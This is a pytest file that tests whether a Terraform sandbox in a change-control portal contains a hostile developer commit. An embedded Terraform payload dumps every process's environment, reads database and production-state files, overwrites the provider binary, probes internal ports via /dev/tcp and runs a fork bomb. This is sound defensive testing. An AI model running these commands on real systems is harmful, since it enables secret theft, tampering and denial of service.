"""Tried as an attacker would (issue 17): a developer who can only push a branch and file a
dev ticket commits Terraform code that, at plan time (functions) and at apply time
(`local-exec`), goes after the worker, the portal and other environments. Real Terraform,
in the real bubblewrap sandbox, on a real Celery worker: every attempt fails or is
contained, the portal's data and users are unchanged, no secret reaches a stored log in
any encoding, and the next approved apply runs the untouched provider."""

from __future__ import annotations

import base64
import hashlib
import os
import secrets
import sys
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings
from django.contrib.auth.models import User

from deployments import services
from deployments.choices import RunKind, RunStatus, TicketStatus
from deployments.models import Environment, TerraformRun, Ticket
from deployments.terraform.sandbox import DEFAULT_UID, running_as_root
from deployments.terraform.source import commit_all
from tests.helpers.api import api_for
from tests.helpers.paths import ROOT
from tests.helpers.waiting import wait_for

pytestmark = [pytest.mark.worker, pytest.mark.terraform, pytest.mark.django_db(transaction=True)]

PROCESS_LIMIT = 256
FLOOD_BYTES = 100 * 1024 * 1024

# Each attempt prints CONTAINED <name> when it failed and BREACH <name> when it worked.
HOSTILE_TF = r"""
locals {
  self_stat   = try(file("/proc/self/stat"), "")
  ppid        = try(split(" ", element(split(")", local.self_stat), 1))[2], "0")
}

output "plan_time" {
  value = {
    parent_environ = try(filebase64("/proc/${local.ppid}/environ"), "CONTAINED")
    worker_environ = try(filebase64("/proc/%(worker_pid)s/environ"), "CONTAINED")
    any_environ    = length(try(fileset("/proc", "*/environ"), []))
    data_dir       = length(try(fileset("%(data_dir)s", "**"), []))
    database       = try(filebase64("%(database)s"), "CONTAINED")
    prod_state     = try(file("%(prod_state)s"), "CONTAINED")
    plan_files     = length(try(fileset("%(plans)s", "**"), []))
    virtualenv     = try(file("%(venv)s/pyvenv.cfg"), "CONTAINED")
    project        = try(file("%(project)s/changecontrol/settings.py"), "CONTAINED")
  }
}

resource "null_resource" "hostile" {
  triggers = { always = timestamp() }

  provisioner "local-exec" {
    interpreter = ["/bin/bash", "-c"]
    command     = <<-EOT
      try() {
        name="$1"; shift
        if "$@" >/dev/null 2>&1; then echo "BREACH $name"; else echo "CONTAINED $name"; fi
      }
      readable() { test -r "$1" && head -c 1 "$1" >/dev/null; }
      echo "uid inside: $(id -u), pid: $$"
      all=$(cat /proc/*/environ 2>/dev/null | base64 -w0 | head -c 200000)
      echo "environ of every process: $all"
      try worker-environ readable /proc/%(worker_pid)s/environ
      try worker-visible test -e /proc/%(worker_pid)s
      try signal-worker kill -INT %(worker_pid)s
      try data-dir ls %(data_dir)s
      try database readable "%(database)s"
      try prod-state readable "%(prod_state)s"
      try plan-files ls "%(plans)s"
      try virtualenv readable "%(venv)s/pyvenv.cfg"
      try project readable "%(project)s/changecontrol/settings.py"
      try write-mirror bash -c 'echo pwned >> "%(provider)s"'
      try replace-mirror cp /bin/sh "%(provider)s"
      # A write the sandbox lets through lands in its own private /tmp at most (where the
      # project or DATA_DIR lie under the host's /tmp, the mount points' parents are made
      # there): the test then checks the host, which is what containment means.
      wrote() {
        name="$1"; shift
        if "$@" >/dev/null 2>&1; then echo "WROTE-INSIDE $name"; else echo "CONTAINED $name"; fi
      }
      wrote write-data-dir touch "%(data_dir)s/pwned"
      wrote write-project touch "%(project)s/pwned"
      try postgres timeout 5 bash -c 'echo > /dev/tcp/127.0.0.1/5432'
      try redis timeout 5 bash -c 'echo > /dev/tcp/127.0.0.1/6379'
      try http-loopback timeout 5 bash -c 'echo > /dev/tcp/127.0.0.1/%(http_port)s'
      try http-host timeout 5 bash -c 'echo > /dev/tcp/10.0.2.2/%(http_port)s'
      try postgres-host timeout 5 bash -c 'echo > /dev/tcp/10.0.2.2/5432'
      try redis-host timeout 5 bash -c 'echo > /dev/tcp/10.0.2.2/6379'
      head -c %(flood)s /dev/zero | tr '\0' 'A' | fold -w 1000
      head -c 20000000 /dev/zero | tr '\0' 'B'
      echo
      echo "process limit inside: $(ulimit -u)"
      echo "hostile apply done"
      # Last: the bomb may take every process slot of the sandbox, Terraform's own threads
      # included (then the run fails: contained, the worker and the host go on).
      timeout -s KILL 10 bash -c 'f(){ f & f & wait; }; f' >/dev/null 2>&1
      echo "fork bomb over"
    EOT
  }
}
"""

# Attempts to write a host path: contained when the host path is untouched afterwards.
WRITES = ("write-data-dir", "write-project")
ATTEMPTS = [
    "worker-environ",
    "worker-visible",
    "signal-worker",
    "data-dir",
    "database",
    "prod-state",
    "plan-files",
    "virtualenv",
    "project",
    "write-mirror",
    "replace-mirror",
    "write-data-dir",
    "write-project",
    "postgres",
    "redis",
    "http-loopback",
    "http-host",
    "postgres-host",
    "redis-host",
]


def _database_file() -> str:
    from django.db import connection

    name = str(connection.settings_dict["NAME"])
    if connection.vendor == "sqlite":
        return name
    return "/var/lib/postgresql"  # PostgreSQL's files, wherever its version keeps them


def _provider_binary() -> Path:
    found = sorted(Path(settings.TERRAFORM_PROVIDER_MIRROR).rglob("terraform-provider-null_*"))
    assert found, "make install puts hashicorp/null into the mirror"
    return found[0]


def _encodings(value: str) -> list[str]:
    """A secret's plain, base64 (the core of each alignment, both alphabets) and hex forms."""
    raw = value.encode()
    forms = [value, raw.hex(), raw.hex().upper()]
    for shift in range(3):
        encoded = base64.b64encode(b"\0" * shift + raw).decode()
        core = encoded[(shift * 8 + 5) // 6 : ((shift + len(raw)) * 8) // 6]
        forms += [core, core.replace("+", "-").replace("/", "_")]
    return forms


@pytest.fixture
def sandbox_processes() -> Iterator[list[int]]:
    """The most threads the sandbox's own uid ever had at once (as root: it is a dedicated
    uid, so every one of them is the sandbox's)."""
    peak = [0]
    stop = threading.Event()

    def count() -> int:
        total = 0
        for entry in os.listdir("/proc"):
            if not entry.isdigit():
                continue
            try:
                status = Path(f"/proc/{entry}/status").read_text()
            except OSError:
                continue
            if f"\nUid:\t{DEFAULT_UID}\t" in status:
                total += int(status.split("\nThreads:\t", 1)[1].split("\n", 1)[0])
        return total

    def poll() -> None:
        while not stop.wait(0.05):
            peak[0] = max(peak[0], count())

    thread = threading.Thread(target=poll, daemon=True)
    thread.start()
    yield peak
    stop.set()
    thread.join(timeout=10)


def test_a_hostile_commit_cannot_reach_past_its_own_run(
    request: pytest.FixtureRequest,
    author: User,
    infra_repo: Path,
    head_sha: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    httpserver: Any,
    sandbox_processes: list[int],
) -> None:
    # Secrets the portal holds that the run must never see: the worker's own environment,
    # another environment's state, a stored plan file.
    webhook_secret = "whsec-" + secrets.token_hex(16)
    monkeypatch.setenv("GITHUB_WEBHOOK_SECRET", webhook_secret)
    monkeypatch.setenv("TERRAFORM_SANDBOX_PROCESSES", str(PROCESS_LIMIT))
    prod_secret = "prod-db-password-" + secrets.token_hex(8)
    prod_state = tmp_path / "state" / "prod" / "terraform.tfstate"
    prod_state.parent.mkdir(parents=True)
    prod_state.write_text(f'{{"version": 4, "outputs": {{"db": {{"value": "{prod_secret}"}}}}}}')
    plans = tmp_path / "media" / "plans"
    plans.mkdir(parents=True)
    plan_secret = "plan-file-secret-" + secrets.token_hex(8)
    (plans / "run-1.tfplan").write_text(plan_secret)
    httpserver.expect_request("/").respond_with_data("reached")
    provider = _provider_binary()
    provider_digest = hashlib.sha256(provider.read_bytes()).hexdigest()
    users_before = sorted(User.objects.values_list("username", "is_superuser", "is_staff"))

    Environment.objects.filter(name="dev").update(auto_deploy=True)
    worker = request.getfixturevalue("celery_worker_process")
    hostile = HOSTILE_TF % {
        "worker_pid": worker.pid,
        "data_dir": settings.DATA_DIR,
        "database": _database_file(),
        "prod_state": prod_state,
        "plans": plans,
        "venv": sys.prefix,
        "project": ROOT,
        "provider": provider,
        "http_port": httpserver.port,
        "flood": FLOOD_BYTES,
    }
    (infra_repo / "terraform" / "hostile.tf").write_text(hostile)
    hostile_sha = commit_all(infra_repo, "A feature branch")

    response = api_for(author).post(
        "/api/v1/tickets/",
        {"title": "innocent change", "environment": "dev", "commit_sha": hostile_sha},
        format="json",
    )
    assert response.status_code == 201, response.json()
    ticket_id = response.json()["id"]

    def applied() -> TerraformRun | None:
        return TerraformRun.objects.filter(
            ticket_id=ticket_id,
            kind=RunKind.APPLY,
            status__in=[RunStatus.SUCCEEDED, RunStatus.FAILED, RunStatus.INTERRUPTED],
        ).first()

    apply_run = wait_for(applied, timeout=900, what="the hostile apply to finish")
    plan_run = TerraformRun.objects.get(ticket_id=ticket_id, kind=RunKind.PLAN)
    plan_log, apply_log = plan_run.log, apply_run.log
    assert plan_run.status == RunStatus.SUCCEEDED, plan_log[-3000:]
    # The fork bomb may leave Terraform no thread to start: the run then fails, contained.
    assert apply_run.status in (RunStatus.SUCCEEDED, RunStatus.FAILED), apply_log[-3000:]
    assert "hostile apply done" in apply_log, apply_log[-3000:]
    assert worker.poll() is None, "the worker survived"

    # Plan time: every function call came back empty-handed.
    for name in ("parent_environ", "worker_environ", "database", "prod_state", "virtualenv"):
        assert _output(plan_log, name) == '"CONTAINED"', (name, plan_log[-4000:])
    assert _output(plan_log, "project") == '"CONTAINED"'
    for name in ("data_dir", "plan_files"):
        assert _output(plan_log, name) == "0", name
    # Only the sandbox's own processes (Terraform, its provider): no portal process.
    assert int(_output(plan_log, "any_environ")) <= 4

    # Apply time: every attempt failed (a write reached nothing of the host: checked below).
    for name in ATTEMPTS:
        if name in WRITES:
            assert f"CONTAINED {name}" in apply_log or f"WROTE-INSIDE {name}" in apply_log
            continue
        assert f"CONTAINED {name}" in apply_log, (name, apply_log[:6000])
    # (The script itself, quoted by Terraform when it starts it, says BREACH too.)
    assert "(local-exec): BREACH" not in apply_log
    assert "process limit inside: 256" in apply_log
    if running_as_root():
        assert f"uid inside: {DEFAULT_UID}" in apply_log
        assert 0 < sandbox_processes[0] <= PROCESS_LIMIT + 16, sandbox_processes[0]
    # 100 MiB printed: the stored log keeps its head and its tail and says what it dropped.
    assert len(apply_log.encode()) <= settings.RUN_LOG_MAX_BYTES + 256 * 1024
    assert "of output dropped here" in apply_log
    # (Terraform splits a provisioner's 20 MB line itself; the runner's own cut is tested
    # in test_bounded_output.py.)
    assert max(len(line) for line in apply_log.splitlines()) < 20_000

    # No secret in any stored log, in any encoding.
    everything = "".join(
        TerraformRun.objects.filter(ticket_id=ticket_id).values_list("log", flat=True)
    ) + "".join(TerraformRun.objects.filter(ticket_id=ticket_id).values_list("error", flat=True))
    for secret in (webhook_secret, prod_secret, plan_secret, "worker-test-key"):
        for form in _encodings(secret):
            assert form not in everything, (secret, form)

    # Nothing changed outside the run.
    assert not httpserver.log, "the run reached the host's loopback"
    assert hashlib.sha256(provider.read_bytes()).hexdigest() == provider_digest
    assert not (Path(settings.DATA_DIR) / "pwned").exists()
    assert not (ROOT / "pwned").exists()
    assert prod_state.read_text().count(prod_secret) == 1
    assert sorted(User.objects.values_list("username", "is_superuser", "is_staff")) == users_before
    assert services.audit_verify()[0]

    # The next ticket (the reviewed main) runs the untouched provider and completes.
    wait_for(
        lambda: (
            Ticket.objects.get(pk=ticket_id).status
            in (TicketStatus.COMPLETED, TicketStatus.APPLY_FAILED, TicketStatus.MONITORING)
        ),
        timeout=300,
        what="the hostile ticket to settle",
    )
    response = api_for(author).post(
        "/api/v1/tickets/",
        {"title": "reviewed change", "environment": "dev", "commit_sha": head_sha},
        format="json",
    )
    assert response.status_code == 201
    good_id = response.json()["id"]
    wait_for(
        lambda: (
            Ticket.objects.get(pk=good_id).status == TicketStatus.COMPLETED
            or Ticket.objects.get(pk=good_id).status.endswith("failed")
        ),
        timeout=600,
        what="the next ticket to complete",
    )
    good = Ticket.objects.get(pk=good_id)
    assert good.status == TicketStatus.COMPLETED, good.status_reason
    assert hashlib.sha256(provider.read_bytes()).hexdigest() == provider_digest


def _output(log: str, name: str) -> str:
    """The value the plan shows for ``name`` in its outputs (strings keep their quotes)."""
    for line in log.splitlines():
        key, _, value = " ".join(line.replace("+", " ").split()).partition(" = ")
        if key == name:
            return value
    raise AssertionError(f"the plan shows no {name}")
